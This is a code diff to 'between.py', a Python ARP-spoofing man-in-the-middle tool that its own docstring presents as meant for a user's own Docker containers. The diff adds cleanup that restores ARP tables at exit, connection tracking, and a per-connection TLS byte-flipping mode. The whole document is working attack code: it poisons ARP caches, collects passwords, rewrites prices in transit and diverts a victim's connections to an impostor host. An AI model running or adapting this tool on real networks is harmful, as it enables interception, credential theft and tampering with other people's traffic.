@@ -3,10 +3,10 @@
     between.py watch|change|flip VICTIM PEER              reads · changes a price · changes one byte of each TLS record
     between.py divert VICTIM PEER IMPOSTOR GHOST           leads VICTIM's connections to IMPOSTOR instead of PEER
 
-It tells both that the other's address is at this container's MAC address, so that each frame between them comes here, and sends
-it on itself. GHOST is an unused address, from which diverted connections seem to come, so that answers pass here as well.
-It needs a raw socket (NET_RAW, which Docker gives to every container). It is for containers of your own: nothing here reaches
-beyond the network that it was put on. One line of JSON at SIGTERM tells what it read and did.
+It tells both that the other's address is at this container's MAC address, so that each frame between them comes here, and
+sends it on itself. GHOST is an unused address, from which diverted connections seem to come, so that answers pass here too.
+It needs a raw socket (NET_RAW, which Docker gives to every container). It is for containers of your own: nothing here
+reaches beyond the network that it was put on. One line of JSON at SIGTERM tells what it read and did.
 """
 
 from __future__ import annotations
@@ -41,24 +41,33 @@ class Between:
         self.socket.bind((DEVICE, 3))
         self.mac = bytes.fromhex(Path(f"/sys/class/net/{DEVICE}/address").read_text().strip().replace(":", ""))
         self.macs = {address: find_mac(address) for address in (victim, peer, impostor) if address}
+        self.done = False
         self.frames = self.changed = self.diverted = 0
         self.passwords: set[str] = set()
         self.prices: set[str] = set()
         self.kinds = {"plaintext": 0, "tls": 0}
         self.sample = b""
+        self.asked: set[bytes] = set()
 
     # -- getting between ----------------------------------------------------------------------------------------------
 
     def poison(self) -> None:
-        while True:
+        while not self.done:
             for told, claimed in ((self.victim, self.peer), (self.peer, self.victim)):
                 for operation in (1, 2):  # a question from the wrong place makes an entry; an answer changes it
                     self.arp(operation, claimed, told, self.macs[told])
             time.sleep(0.2)
 
-    def arp(self, operation: int, claimed: str, told: str, mac: bytes) -> None:
+    def restore(self) -> None:
+        """Whoever leaves without this has cut them off from each other, until their entries are old."""
+        for told, claimed in ((self.victim, self.peer), (self.peer, self.victim)):
+            for operation in (1, 2):
+                self.arp(operation, claimed, told, self.macs[told], self.macs[claimed])
+
+    def arp(self, operation: int, claimed: str, told: str, mac: bytes, at: bytes = b"") -> None:
+        """Tells ``told`` that ``claimed`` is ``at`` that MAC address, ours if none is given."""
         body = struct.pack("!HHBBH", 1, IP, 6, 4, operation)
-        body += self.mac + socket.inet_aton(claimed) + mac + socket.inet_aton(told)
+        body += (at or self.mac) + socket.inet_aton(claimed) + mac + socket.inet_aton(told)
         self.socket.send(mac + self.mac + struct.pack("!H", ARP) + body)
 
     # -- carrying -----------------------------------------------------------------------------------------------------
@@ -95,7 +104,9 @@ class Between:
             return
         segment = packet[header:length]
         offset = (segment[12] >> 4) * 4
-        payload = self.read(segment[offset:], source == self.peer)
+        payload = self.read(
+            segment[offset:], bytes(segment[:2] if to == self.peer else segment[2:4]), source == self.peer
+        )
         self.send(to, packet[:header], source, target, segment[:offset], payload)
 
     def send(self, to: str, head: bytes, source: str, target: str, tcp: bytes, payload: bytes) -> None:
@@ -121,9 +132,12 @@ class Between:
 
     # -- reading and changing -----------------------------------------------------------------------------------------
 
-    def read(self, payload: bytes, is_answer: bool) -> bytes:
+    def read(self, payload: bytes, caller: bytes, is_answer: bool) -> bytes:
+        """What is sent instead. ``caller`` is the victim's port: which connection it is."""
         if not payload:
             return payload
+        if not self.asked:
+            print(json.dumps({"event": "between"}), flush=True)
         self.kinds["tls" if payload[0] in (0x14, 0x15, 0x16, 0x17) else "plaintext"] += 1
         if not self.sample or payload[0] == 0x17:
             self.sample = payload[:48]
@@ -133,8 +147,10 @@ class Between:
         changed = payload
         if self.mode == "change":
             changed = PRICE.sub(CHANGED, payload)
-        elif self.mode == "flip" and is_answer and payload[0] == 0x17 and len(payload) > 80:
-            changed = payload[:-1] + bytes([payload[-1] ^ 1])
+        elif self.mode == "flip" and is_answer and caller in self.asked and payload[0] == 0x17:
+            changed = payload[:-1] + bytes([payload[-1] ^ 1])  # in what answers a question, not in the handshake
+        if not is_answer and (payload[0] == 0x17 or not self.asked):
+            self.asked.add(caller if payload[0] == 0x17 else b"")
         self.changed += changed != payload
         return changed
 
@@ -148,10 +164,10 @@ class Between:
 def checksum(data: bytes) -> int:
     if len(data) % 2:
         data += b"\0"
-    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
     while total >> 16:
         total = (total & 0xFFFF) + (total >> 16)
-    return ~total & 0xFFFF
+    return 0xFFFF - total
 
 
 def find_mac(address: str) -> bytes:
@@ -171,6 +187,10 @@ def main() -> None:
     between = Between(*sys.argv[1:])
 
     def end(*_: object) -> None:
+        between.done = True
+        for _ in range(5):
+            between.restore()
+            time.sleep(0.3)
         print(json.dumps(between.told()), flush=True)
         raise SystemExit(0)
 
